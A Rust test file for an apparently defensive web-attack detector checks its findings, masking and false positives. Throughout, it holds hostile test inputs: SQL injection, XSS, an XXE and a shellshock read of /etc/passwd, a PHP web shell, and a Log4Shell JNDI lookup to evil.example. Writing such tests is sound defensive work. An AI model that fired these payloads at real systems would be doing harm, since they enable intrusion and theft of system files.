//! Crate-level tests through the public entry point: where values are found in a request and
//! what their points are, masking, de-duplication, hard benign requests, and recall and
//! false positives on the public corpus.

use sessionscope_model::{split_url, Exchange, Headers, Request};

use crate::{AttackKind, Detector, Finding, SecretPlace};

fn request(method: &str, url: &str, headers: &[(&str, &str)], body: Option<&str>) -> Exchange {
    Exchange {
        id: "r-1".into(),
        request: Request {
            method: method.into(),
            url: url.into(),
            headers: Headers::from_pairs(headers.iter().copied()),
            body: body.map(|body| body.as_bytes().to_vec()),
            ..Request::default()
        },
        ..Exchange::default()
    }
}

fn found(findings: &[Finding]) -> Vec<(&'static str, &str)> {
    findings
        .iter()
        .map(|finding| (finding.kind.as_str(), finding.point.as_str()))
        .collect()
}

/// Asserts that a detector for which `is_secret` names a secret place finds in `exchange` what
/// `clear` holds, at the same points, with every payload masked.
fn assert_masked_under(
    is_secret: fn(SecretPlace<'_>) -> bool,
    exchange: &Exchange,
    clear: &[Finding],
) {
    let masked = Detector::with_secret_names(is_secret).detect(exchange);
    assert_eq!(found(&masked), found(clear));
    assert!(masked.iter().all(|finding| finding.payload == crate::MASK));
}

/// Asserts that `exchange` yields exactly the (kind, point) pairs expected, in any order.
fn check(exchange: &Exchange, expected: &[(&str, &str)]) {
    let findings = Detector::new().detect(exchange);
    let mut actual = found(&findings);
    actual.sort();
    let mut expected = expected.to_vec();
    expected.sort();
    assert_eq!(actual, expected, "{findings:#?}");
}

#[test]
fn attacks_are_found_in_every_part_of_a_request() {
    check(
        &request("GET", "/files/..%2f..%2fetc%2fpasswd/view", &[], None),
        &[("ptrav", "request.path"), ("ptrav", "request.path.1")],
    );
    check(
        &request(
            "GET",
            "https://shop.example/login?user[$ne]=x&next=//evil.example",
            &[],
            None,
        ),
        &[
            ("nosqli", "request.query.user[$ne]"),
            ("redir", "request.query.next"),
        ],
    );
    check(
        &request(
            "POST",
            "/api/orders",
            &[("Content-Type", "application/json")],
            Some(
                r#"{"items":[{"sku":"A-1","note":"1' UNION SELECT password FROM users--"}],"filter":{"$where":"1==1"}}"#,
            ),
        ),
        &[
            ("sqli", "request.json.items.0.note"),
            ("nosqli", "request.json.filter.$where"),
        ],
    );
    check(
        &request(
            "POST",
            "/contact",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            Some("name=Ann&message=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ),
        &[("xss", "request.form.message")],
    );
    let multipart = "--B\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{{7*7}}\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--\r\n";
    check(
        &request(
            "POST",
            "/upload",
            &[("Content-Type", "multipart/form-data; boundary=B")],
            Some(multipart),
        ),
        &[
            ("ssti", "request.form.title"),
            ("rce", "request.form.file.filename"),
            ("ptrav", "request.form.file.filename"),
        ],
    );
    check(
        &request(
            "POST",
            "/api/import",
            &[("Content-Type", "application/xml")],
            Some(
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><name>&lt;script&gt;alert(1)&lt;/script&gt;</name></r>"#,
            ),
        ),
        &[("xxe", "request.xml"), ("xss", "request.xml.name")],
    );
    check(
        &request(
            "GET",
            "/",
            &[
                ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
                ("Referer", "https://shop.example/?q=%27%20or%201%3D1--"),
                ("X-Api-Version", "${jndi:ldap://evil.example/a}"),
                ("Cookie", "theme=<svg/onload=alert(1)>"),
            ],
            None,
        ),
        &[
            ("scanner", "request.header.user-agent"),
            ("sqli", "request.header.referer"),
            ("rce", "request.header.x-api-version"),
            ("xss", "request.cookie.theme"),
        ],
    );
    check(
        &request("GET", "/.git/config", &[], None),
        &[("scanner", "request.path")],
    );
    check(
        &request(
            "GET",
            "/search?q=Y2F0IC9ldGMvcGFzc3dkOyBpZA%3D%3D",
            &[],
            None,
        ),
        &[("ptrav", "request.query.q"), ("rce", "request.query.q")],
    );
}

#[test]
fn graphql_documents_are_scanned_by_their_literals() {
    let body = r#"{"query":"query($id: ID!) { user(id: $id) { name } search(q: \"1' or '1'='1\") { id } }","variables":{"id":"7"}}"#;
    check(
        &request(
            "POST",
            "/graphql",
            &[("Content-Type", "application/json")],
            Some(body),
        ),
        &[("sqli", "request.json.query")],
    );
    let benign = r#"{"query":"query Orders($first: Int) { orders(first: $first, status: \"open\") { id total } }"}"#;
    check(
        &request(
            "POST",
            "/graphql",
            &[("Content-Type", "application/json")],
            Some(benign),
        ),
        &[],
    );
}

#[test]
fn one_finding_per_type_and_point() {
    let exchange = request(
        "GET",
        "/s?q=1%27%20or%201%3D1--%20union%20select%201&q=%27%20or%20%27a%27%3D%27a",
        &[],
        None,
    );
    let findings = Detector::new().detect(&exchange);
    assert_eq!(found(&findings), vec![("sqli", "request.query.q")]);
}

#[test]
fn secret_places_are_scanned_but_their_payload_is_masked() {
    fn secret(place: SecretPlace<'_>) -> bool {
        matches!(
            place,
            SecretPlace::Parameter("password") | SecretPlace::Header("x-auth-token")
        )
    }
    let exchange = request(
        "POST",
        "/login?password=%27%20or%201%3D1--",
        &[
            ("X-Auth-Token", "<script>alert(1)</script>"),
            ("Cookie", "sid=1%27%20or%201%3D1--"),
        ],
        Some(r#"{"user":"ann","password":"' or 1=1--"}"#),
    );
    let findings = Detector::with_secret_names(secret).detect(&exchange);
    assert_eq!(findings.len(), 4, "{findings:#?}");
    for finding in &findings {
        assert_eq!(finding.payload, crate::MASK, "{finding:?}");
    }
    let clear = Detector::new().detect(&request("GET", "/s?q=%27%20or%201%3D1--", &[], None));
    assert_eq!(clear[0].payload, "' or 1=1--");
}

#[test]
fn payload_excerpts_are_short_and_around_the_match() {
    let long = format!(
        "{}%3Cscript%3Ealert(1)%3C%2Fscript%3E{}",
        "a".repeat(300),
        "b".repeat(300)
    );
    let findings = Detector::new().detect(&request("GET", &format!("/s?q={long}"), &[], None));
    let excerpt = &findings[0].payload;
    assert!(excerpt.chars().count() <= crate::MAX_PAYLOAD_CHARS);
    assert!(excerpt.contains("<script>"), "{excerpt}");
}

#[test]
fn hard_benign_requests_stay_clean() {
    let cases = [
        request("GET", "/search?q=select+the+best+option+from+our+list&sort=price", &[], None),
        request("GET", "https://shop.example/login?next=%2Faccount%2Forders%3Fpage%3D2", &[("Host", "shop.example")], None),
        request("GET", "https://shop.example/login?next=https%3A%2F%2Fshop.example%2Fcart&return_to=orders", &[], None),
        request("GET", "/files/report.v2.final.pdf?download=1", &[], None),
        request("GET", "/users?email=ann.lee%2Bshop%40example.com&since=2024-05-01T10%3A30%3A00Z", &[], None),
        request(
            "POST",
            "/api/tickets",
            &[("Content-Type", "application/json")],
            Some(r#"{"title":"Crash on save","comment":"Steps: open the editor, then run `if (a < b) { save(a); }` and it fails. Tried Chrome & Firefox; same result.","price":"$19.99","budget":{"currency":"$","amount":"$1,200"}}"#),
        ),
        request(
            "POST",
            "/api/reviews",
            &[("Content-Type", "application/json")],
            Some(r#"{"text":"Ordered the blue one (size 42) and it fits well; would buy again. Rock & roll!","tags":["shoes","summer"],"rating":5}"#),
        ),
        request(
            "POST",
            "/api/messages",
            &[("Content-Type", "application/json")],
            Some(r#"{"subject":"Re: order 4711","body":"Hello,
thanks for the quick reply.
Best regards,
Ann"}"#),
        ),
        request(
            "POST",
            "/upload",
            &[("Content-Type", "multipart/form-data; boundary=B")],
            Some("--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"holiday.photo.2024.jpg\"\r\n\r\nbinary\r\n--B--\r\n"),
        ),
        request(
            "GET",
            "/api/v1/products?filter=price%3E10%20and%20stock%3E0&fields=id,name",
            &[
                ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"),
                ("Referer", "https://shop.example/products?page=2"),
                ("X-Forwarded-For", "10.0.0.7, 203.0.113.9"),
                ("Cookie", "PHPSESSID=9a8b7c6d5e4f3a2b1c0d; theme=dark"),
            ],
            None,
        ),
    ];
    for exchange in &cases {
        let findings = Detector::new().detect(exchange);
        assert!(
            findings.is_empty(),
            "{}: {findings:#?}",
            exchange.request.url
        );
    }
}

#[test]
fn bodies_over_the_limit_are_not_read() {
    let big = format!(
        r#"{{"q":"' or 1=1--","pad":"{}"}}"#,
        "x".repeat(crate::MAX_BODY_BYTES)
    );
    let findings = Detector::new().detect(&request(
        "POST",
        "/api",
        &[("Content-Type", "application/json")],
        Some(&big),
    ));
    assert!(findings.is_empty());
}

#[test]
fn malformed_input_is_data_not_a_panic() {
    let cases = [
        request("GET", "%", &[], None),
        request("GET", "/a?%=%&&=&%zz", &[("Cookie", ";;=;a")], None),
        request(
            "POST",
            "/x",
            &[("Content-Type", "multipart/form-data; boundary=")],
            Some("--\r\n"),
        ),
        request(
            "POST",
            "/x",
            &[("Content-Type", "application/json")],
            Some("{\"a\":"),
        ),
        request(
            "POST",
            "/x",
            &[("Content-Type", "text/xml")],
            Some("<a><![CDATA[<b"),
        ),
        request("GET", "/s?q=%F0%9F%98%80%C0%AE%E0%80%AE%u12", &[], None),
        request("GET", "/s?q=${${${${", &[], None),
    ];
    for exchange in &cases {
        let _ = Detector::new().detect(exchange);
    }
    assert_eq!(AttackKind::ALL.len(), 14);
}

#[test]
#[ignore = "profiling aid: cargo test --release -- --ignored --nocapture detector_cost"]
fn detector_cost() {
    use crate::detectors;
    use crate::features::Features;
    use crate::scan::{Origin, Subject};
    use std::time::Instant;
    let data =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/attacks");
    let values = crate::corpus::labelled_values(&data).expect("data");
    let decoded: Vec<String> = values
        .iter()
        .map(|value| crate::decode::deep_decode(&value.value).into_owned())
        .collect();
    let names = [
        "sqli", "nosqli", "xss", "shell", "windows", "php", "java", "node", "ptrav", "ssrf", "xxe",
        "ldapi", "ssti", "ssi", "crlf", "redir",
    ];
    let functions: [fn(&Subject<'_>) -> Option<crate::scan::Hit>; 16] = [
        detectors::sqli::detect,
        detectors::injection::detect_nosqli,
        detectors::xss::detect,
        detectors::shell::detect,
        detectors::windows::detect,
        detectors::php::detect,
        detectors::java::detect,
        detectors::node::detect,
        detectors::ptrav::detect,
        detectors::ssrf::detect,
        detectors::markup::detect_xxe,
        detectors::injection::detect_ldapi,
        detectors::injection::detect_ssti,
        detectors::markup::detect_ssi,
        detectors::crlf::detect,
        detectors::redir::detect,
    ];
    for (name, function) in names.iter().zip(functions) {
        let started = Instant::now();
        let mut hits = 0;
        for text in &decoded {
            let subject = Subject {
                text,
                features: Features::of(text),
                origin: Origin::QueryValue,
                name: "q",
                request_host: None,
            };
            hits += usize::from(function(&subject).is_some());
        }
        println!(
            "{name:8} {:>8.1} ms {hits}",
            started.elapsed().as_secs_f64() * 1000.0
        );
    }
    let started = Instant::now();
    for value in &values {
        std::hint::black_box(crate::decode::deep_decode(&value.value));
    }
    println!(
        "decode   {:>8.1} ms",
        started.elapsed().as_secs_f64() * 1000.0
    );
}

#[test]
#[ignore = "profiling aid: cargo test --release -- --ignored --nocapture typical_exchange_cost"]
fn typical_exchange_cost() {
    use sessionscope_model::{Exchange, Headers, Request};
    let headers = [
        ("host", "api.shop.example"),
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"),
        ("content-type", "application/json"),
        ("x-request-id", "6f1c2a9e-1b7d-4c1e-9a51-0c8f3b2d4e77"),
        ("cookie", "PHPSESSID=9a8b7c6d5e4f3a2b1c0d; theme=dark"),
    ];
    let exchange = Exchange {
        request: Request {
            method: "POST".into(),
            url: "https://api.shop.example/v1/carts/8812/items?expand=product".into(),
            headers: Headers::from_pairs(headers.iter().copied()),
            body: Some(br#"{"product_id":1234,"quantity":2,"note":"gift wrap"}"#.to_vec()),
            ..Request::default()
        },
        ..Exchange::default()
    };
    let detector = crate::Detector::new();
    let rounds = 1_000_000;
    let started = std::time::Instant::now();
    for _ in 0..rounds {
        std::hint::black_box(detector.detect(std::hint::black_box(&exchange)));
    }
    println!(
        "{:.3} µs per exchange",
        started.elapsed().as_secs_f64() * 1e6 / rounds as f64
    );
}

#[test]
fn a_remembered_user_agent_gives_the_same_findings_under_each_masking_rule() {
    let agent = "() { :; }; /bin/bash -c 'cat /etc/passwd'";
    let exchange = request("GET", "/health", &[("User-Agent", agent)], None);
    let first = Detector::new().detect(&exchange);
    assert!(!first.is_empty(), "a shellshock agent is found");
    assert_eq!(
        Detector::new().detect(&exchange),
        first,
        "the same on repeat"
    );
    // A detector that treats the header as a secret masks the payload even though the agent's
    // findings were remembered under another rule.
    fn agent_is_secret(place: SecretPlace<'_>) -> bool {
        place == SecretPlace::Header("user-agent")
    }
    assert_masked_under(agent_is_secret, &exchange, &first);
    assert_eq!(Detector::new().detect(&exchange), first);
}

#[test]
fn a_remembered_attack_value_gives_the_findings_of_its_new_place() {
    // The same payload twice in one body (the second from the verdict memory, at another point)
    // and again in a later request, once clear and once where the name makes it a secret.
    let payload = "1' UNION SELECT password FROM users--<script>alert(1)</script>";
    let body = format!(r#"{{"items":[{{"note":"{payload}"}},{{"note":"{payload}"}}]}}"#);
    let exchange = request("POST", "/api/items", &[], Some(&body));
    let expected = [
        ("sqli", "request.json.items.0.note"),
        ("sqli", "request.json.items.1.note"),
        ("xss", "request.json.items.0.note"),
        ("xss", "request.json.items.1.note"),
    ];
    let first = Detector::new().detect(&exchange);
    let mut points = found(&first);
    points.sort();
    assert_eq!(points, expected, "{first:#?}");
    // Both places show the same excerpts, whether scanned or remembered.
    let excerpts = |findings: &[Finding], point: &str| -> Vec<String> {
        findings
            .iter()
            .filter(|finding| finding.point == point)
            .map(|finding| finding.payload.clone())
            .collect()
    };
    assert_eq!(
        excerpts(&first, "request.json.items.0.note"),
        excerpts(&first, "request.json.items.1.note")
    );
    assert_eq!(
        Detector::new().detect(&exchange),
        first,
        "the same on repeat"
    );
    fn note_is_secret(place: SecretPlace<'_>) -> bool {
        place == SecretPlace::Parameter("note")
    }
    assert_masked_under(note_is_secret, &exchange, &first);
    // One finding per type and point still holds when the second value comes from memory.
    let twice = request(
        "GET",
        "/s?q=1%27%20or%201%3D1--&q=1%27%20or%201%3D1--",
        &[],
        None,
    );
    let findings = Detector::new().detect(&twice);
    assert_eq!(found(&findings), vec![("sqli", "request.query.q")]);
    assert_eq!(Detector::new().detect(&twice), findings);
}

#[test]
fn a_body_parsed_by_the_caller_gives_the_same_findings() {
    let body = r#"{"items":[{"sku":"A-1","note":"1' UNION SELECT password FROM users--"}],"filter":{"$where":"1==1"}}"#;
    let json = request(
        "POST",
        "/api/orders",
        &[("Content-Type", "application/json")],
        Some(body),
    );
    let parsed: serde_json::Value = serde_json::from_str(body).unwrap();
    let detector = Detector::new();
    let own = detector.detect(&json);
    assert_eq!(own.len(), 2, "{own:?}");
    assert_eq!(
        detector.detect_with_parsed_body(&json, &split_url(&json.request.url), Some(&parsed)),
        own
    );
    // A multipart body is read by its parts even if the caller took it for JSON.
    let multipart = request(
        "POST",
        "/upload",
        &[("Content-Type", "multipart/form-data; boundary=b")],
        Some("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"),
    );
    assert_eq!(
        detector.detect_with_parsed_body(
            &multipart,
            &split_url(&multipart.request.url),
            Some(&parsed)
        ),
        detector.detect(&multipart)
    );
}

#[test]
fn values_hiding_in_names_attributes_part_headers_and_whole_bodies_are_found() {
    // XML attributes (entities decoded) and element names.
    check(
        &request(
            "POST",
            "/api/import",
            &[("Content-Type", "application/xml")],
            Some(
                r#"<order note="1&apos; or &apos;1&apos;=&apos;1"><java.lang.ProcessBuilder/></order>"#,
            ),
        ),
        &[
            ("sqli", "request.xml.order.@note"),
            ("rce", "request.xml.java.lang.ProcessBuilder"),
        ],
    );
    // Markup pasted into a document unescaped: unquoted attributes, HTML elements.
    check(
        &request(
            "POST",
            "/api/import",
            &[("Content-Type", "application/xml")],
            Some("<order><note><img src=x onerror=alert(1)></note><c><script>alert(1)</script></c></order>"),
        ),
        &[
            ("xss", "request.xml.img.@onerror"),
            ("xss", "request.xml.img"),
            ("xss", "request.xml.script"),
        ],
    );
    // A `;` inside a quoted file name does not end it; the part's own headers are read too.
    let body = "--b\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"shell.asp;.jpg\"\r\nContent-Type: image/jpeg; ${jndi:ldap://x/a}\r\n\r\nGIF89a\r\n--b--\r\n";
    check(
        &request(
            "POST",
            "/upload",
            &[("Content-Type", "multipart/form-data; boundary=b")],
            Some(body),
        ),
        &[
            ("rce", "request.form.avatar.filename"),
            ("rce", "request.form.avatar.content-type"),
        ],
    );
    // A multipart body whose type lost its boundary is read by its first line.
    check(
        &request(
            "POST",
            "/upload",
            &[("Content-Type", "multipart/form-data")],
            Some("--xyz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--xyz--\r\n"),
        ),
        &[("sqli", "request.form.q")],
    );
    // Prototype pollution as JSON keys, as a bracketed query name and in a cookie name.
    check(
        &request(
            "POST",
            "/api/profile?a[__proto__][admin]=1",
            &[
                ("Content-Type", "application/json"),
                ("Cookie", "__proto__.x=1"),
            ],
            Some(r#"{"constructor": {"prototype": {"isAdmin": true}}}"#),
        ),
        &[
            ("rce", "request.json.constructor.prototype"),
            ("rce", "request.query.a[__proto__][admin]"),
            ("rce", "request.cookie.__proto__.x"),
        ],
    );
    // A body that claims JSON but does not parse, and a plain-text body, are read whole.
    check(
        &request(
            "POST",
            "/api/run",
            &[("Content-Type", "application/json")],
            Some("{\"cmd\": \"; cat /etc/passwd\""),
        ),
        &[("rce", "request.body"), ("ptrav", "request.body")],
    );
    check(
        &request(
            "POST",
            "/api/note",
            &[("Content-Type", "text/plain")],
            Some("<?php system($_GET['c']); ?>"),
        ),
        &[("rce", "request.body")],
    );
    // Free headers, upload names in X-File-Name, a line break in a header value.
    check(
        &request(
            "GET",
            "/",
            &[
                ("X-File-Name", "shell.php"),
                ("Accept-Language", "en; ${jndi:ldap://x/a}"),
                ("Api-Version", "java.lang.Runtime"),
                ("Forwarded-Note", "a\r\nX-Injected: 1"),
            ],
            None,
        ),
        &[
            ("rce", "request.header.x-file-name"),
            ("rce", "request.header.accept-language"),
            ("rce", "request.header.api-version"),
            ("crlf", "request.header.forwarded-note"),
        ],
    );
    // Framing two servers may read differently: request smuggling.
    for headers in [
        &[("Transfer-Encoding", "chunked"), ("Content-Length", "4")][..],
        &[("Transfer-Encoding", "xchunked")][..],
        &[("Transfer-Encoding", "chunked, identity")][..],
        &[("Transfer-Encoding", "\tchunked")][..],
        &[
            ("Transfer-Encoding", "chunked"),
            ("Transfer-Encoding", "gzip"),
        ][..],
        &[("Content-Length", "4"), ("Content-Length", "40")][..],
    ] {
        let findings = Detector::new().detect(&request("POST", "/api", headers, Some("x")));
        assert!(
            findings
                .iter()
                .any(|finding| finding.rule == "crlf.request-smuggling"),
            "{headers:?}: {findings:?}"
        );
    }
    for headers in [
        &[("Transfer-Encoding", "chunked")][..],
        &[("Transfer-Encoding", "gzip, chunked")][..],
        &[("Content-Length", "4")][..],
        &[("Content-Length", "4"), ("Content-Length", "4")][..],
    ] {
        let findings = Detector::new().detect(&request("POST", "/api", headers, Some("x")));
        assert!(findings.is_empty(), "{headers:?}: {findings:?}");
    }
    // Their benign look-alikes stay clean.
    check(
        &request(
            "POST",
            "/upload?constructor=Williams",
            &[
                ("Content-Type", "multipart/form-data; boundary=b"),
                ("Cookie", "prototype=3; theme=dark"),
                ("Api-Version", "2024-06-01"),
                ("Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
            ],
            Some("--b\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"report.final.v2.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--b--\r\n"),
        ),
        &[],
    );
    check(
        &request(
            "POST",
            "/api/cars",
            &[("Content-Type", "application/xml")],
            Some(
                r#"<car constructor="Williams" model="FW14"><note>java.lang.NullPointerException at Cart.add</note></car>"#,
            ),
        ),
        &[],
    );
}
